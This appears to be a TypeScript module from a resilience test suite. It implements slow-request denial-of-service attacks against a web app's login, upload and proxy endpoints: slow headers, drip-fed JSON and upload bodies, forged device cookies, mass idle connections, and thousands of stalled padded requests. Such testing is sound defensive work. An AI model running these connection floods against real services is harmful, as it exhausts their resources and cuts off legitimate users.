import { formStart, formType } from '../../form.js';
import { Counts } from '../wire/counts.js';
import { headOf, type RequestText } from '../wire/http-text.js';
import { closeAll, openMany, pause, Wire } from '../wire/sockets.js';
import {
  directAddress,
  directAddressOf,
  times,
  type Attack,
  type Run,
  type Target,
} from './attack.js';

/**
 * Opens a connection for each head, keeps sending a piece on all of them, and reopens closed ones.
 */
export function dripping({
  interval,
  heads,
  localAddress,
  piece = ' ',
}: {
  /** Milliseconds between two pieces. */
  interval: number;
  heads: (target: Target) => string[];
  localAddress?: string;
  /** Defaults to a single byte. */
  piece?: string | Buffer;
}): Run {
  return async (target, signal) => {
    const counts = new Counts();
    const begin = (head: string) => {
      const wire = new Wire(target, { localAddress });
      wire.write(head);
      return { head, wire };
    };
    let open = heads(target).map(begin);
    for (await pause(interval, signal); !signal.aborted; await pause(interval, signal)) {
      open = open.map(({ head, wire }) => {
        if (!wire.isClosed) return (wire.write(piece), { head, wire });
        counts.add(wire.outcome);
        return begin(head);
      });
    }
    await closeAll(
      open.map(({ wire }) => wire),
      counts,
    );
    return counts;
  };
}

/** Head of a request with a JSON body of 1,000 bytes. */
export const slowJson = (request: RequestText) =>
  headOf({ ...request, headers: { 'Content-Type': 'application/json', 'Content-Length': 1000 } });

/**
 * The start of an upload.
 * @param length of its body
 */
export function slowUpload(
  { address, cookie }: { address: string; cookie: string },
  length: number,
) {
  const headers = { 'Content-Type': formType, 'Content-Length': length };
  const head = headOf({ method: 'POST', path: '/api/upload-image', address, cookie, headers });
  return head + formStart();
}

const forgedDevices = ['forged', `${'n'.repeat(22)}.${'s'.repeat(43)}.${'x'.repeat(16)}`];

const slowSignIn = (address?: string, device?: string) =>
  slowJson({ method: 'POST', path: '/api/login', address, cookie: device && `device=${device}` });

export const slowSenders: Attack[] = [
  {
    name: 'slow uploads',
    item: '3',
    isShort: true,
    members: 2,
    seconds: 15,
    targets: 'upload',
    about: 'two members start 60 uploads each and send one byte per two seconds',
    run: dripping({
      interval: 2000,
      heads: ({ members }) =>
        members.flatMap((member) => Array(60).fill(slowUpload(member, 1_000_000))),
    }),
  },
  {
    name: 'slow JSON bodies, directly',
    item: '4',
    seconds: 15,
    about:
      '500 sign-ins from one address without the proxy, whose bodies arrive at one byte a second',
    run: dripping({
      interval: 1000,
      heads: () => Array(500).fill(slowSignIn()),
      localAddress: directAddress,
    }),
  },
  {
    name: 'slow headers',
    item: '4',
    seconds: 15,
    about: '500 connections from one address send their headers at one byte a second',
    run: dripping({
      interval: 1000,
      heads: () => Array(500).fill('GET / HTTP/1.1\r\nHost: lodge.example\r\nX-Slow: '),
      localAddress: directAddress,
    }),
  },
  {
    name: 'idle connections',
    item: '4',
    isShort: true,
    seconds: 15,
    about: '1,000 connections from one address that send nothing',
    run: dripping({
      interval: 60_000,
      heads: () => Array(1000).fill(''),
      localAddress: directAddress,
    }),
  },
  {
    name: 'slow JSON bodies through the proxy',
    item: '4',
    isShort: true,
    seconds: 15,
    targets: 'sign-in',
    about:
      "250 sign-ins from an honest member's address whose bodies arrive at one byte a second, 50 without a device cookie and 200 with forged ones",
    run: dripping({
      interval: 1000,
      heads: ({ neighbour }) =>
        times(250, (index) =>
          slowSignIn(neighbour, index < 50 ? undefined : forgedDevices[index % 2]),
        ),
    }),
  },
  {
    name: 'large requests that stall',
    item: '4',
    seconds: 20,
    about:
      '6,000 connections from 20 addresses, each with a sign-in of 15 KB of headers and 16 KB of a body that then stalls',
    run: stall,
  },
];

async function stall(target: Target, signal: AbortSignal) {
  const headers = { 'X-Pad': 'x'.repeat(15_000), 'Content-Length': 100_000 };
  const head = headOf({ method: 'POST', path: '/api/login', headers });
  const beginning = Buffer.from(head + ' '.repeat(16_000));
  const begin = (index: number) => {
    const wire = new Wire(target, { localAddress: directAddressOf(index % 20) });
    wire.write(beginning);
    return wire;
  };
  const counts = new Counts();
  const wires = await openMany(6_000, begin, signal);
  await pause(60_000, signal);
  await closeAll(wires, counts);
  return counts;
}
